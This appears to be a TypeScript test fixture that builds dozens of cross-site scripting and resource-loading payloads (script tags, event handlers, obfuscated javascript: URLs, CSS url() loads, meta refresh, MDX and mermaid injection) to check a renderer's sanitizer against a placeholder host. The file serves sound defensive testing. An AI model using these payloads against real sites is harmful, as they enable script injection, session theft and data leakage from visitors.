/** Text that tries to run code, to load something, or to leave the page. */

/** A host that is not named on purpose. A request to it, or to a host below it, is a finding. */
export const unlistedHost = 'unlisted.example';

/** Images are loaded from the host that their address names. */
export const imageHost = `images.${unlistedHost}`;

/** Each calls `hostileRan(ID)` in the page if it is run, or requests something from `unlistedHost`. */
export function hostilePayloads(id: number | string): string[] {
  // Without spaces, which would end an attribute without quotes. In a window that the page opens, it reports to the page.
  const ran = `(top.opener||top).hostileRan('${String(id).replace(/[\s'"]/g, ':')}')`;
  const host = `https://${unlistedHost}`;
  return [
    `<script>${ran}</script>`,
    `<img src=x onerror=${ran}>`,
    `"><img src=x onerror=${ran}>`,
    `'><svg onload=${ran}>`,
    `</title></script></style></textarea></template><script>${ran}</script>`,
    `<svg><script>${ran}</script><a href="javascript:${ran}"><text>x</text></a></svg>`,
    `<svg><animate onbegin=${ran} attributeName=x dur=1s></svg>`,
    `<iframe srcdoc="<script>${ran}</script>"></iframe>`,
    `<iframe src="javascript:${ran}"></iframe>`,
    `<object data="data:text/html,<script>${ran}</script>"></object><embed src="javascript:${ran}">`,
    `<a href="javascript:${ran}">link</a>`,
    `[link](javascript:${ran})`,
    `[link](<java\nscript:${ran}>) [link](\u0001javascript:${ran})`,
    `<a href="&#106;ava&#x0A;script&colon;${ran}">link</a>`,
    `<javascript:${ran}> <a xlink:href="javascript:${ran}" href=" javascript:${ran}">link</a>`,
    `javascript:${ran}//`,
    ` \u0001jAvA\tScRiPt:${ran}//`,
    `data:text/html,<script>${ran}</script>`,
    `vbscript:${ran}`,
    `![image](javascript:${ran} "onerror=${ran}") ![image](x" onerror="${ran})`,
    `[link][ref]\n\n[ref]: javascript:${ran}`,
    `<details open ontoggle=${ran}><summary>x</summary></details>`,
    `<input autofocus onfocus=${ran}><button formaction="javascript:${ran}">x</button>`,
    `<base href="${host}/"><script src="a.js"></script>`,
    `<meta http-equiv="refresh" content="0;url=${host}/">`,
    `<link rel=stylesheet href=${host}/a.css><link rel=preload as=image href=${host}/a.png>`,
    `<style>@import "${host}/a.css";*{background:url(${host}/b)}</style>`,
    `<div style="background:url(${host}/c)" class="bg-[url(${host}/d)]">x</div>`,
    `red;background:url(${host}/e)`,
    `x);background:url(${host}/f`,
    `<form action="${host}/g"><button>x</button></form>`,
    `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ran}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
    `<!--><img src=x onerror=${ran}>--><![CDATA[><img src=x onerror=${ran}>]]><?x ><img src=x onerror=${ran}>?>`,
    `\`\`\`js onerror=${ran}\n</code></pre><script>${ran}</script>\n\`\`\``,
    `<Card title="x" href="javascript:${ran}" onclick="${ran}" style={{ background: 'url(${host}/h)' }}>x</Card>`,
    `{${ran}} {(() => ${ran})()} \${${ran}} {{${ran}}}`,
    `import x from '${host}/x.js'\n\nexport const y = ${ran}\n\n<Icon icon={<svg onload="${ran}" />} />`,
    `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${ran}>"]\n  click A "javascript:${ran}"\n\`\`\``,
    `<octavo-card href="javascript:${ran}" onclick=${ran} title=x></octavo-card><octavo-tooltip href="javascript:${ran}">x</octavo-tooltip>`,
    `<img alt=x srcset="${host}/i 1x"><video poster=${host}/j><source src=${host}/k></video>`,
    `\\"};${ran};//</script><script>${ran}</script>'-${ran}-'\u2028${ran}`,
    `![i](https://${imageHost}/a) <img alt="i" src="https://${imageHost}/b" srcset="${host}/l 2x" onload="${ran}">`,
  ];
}
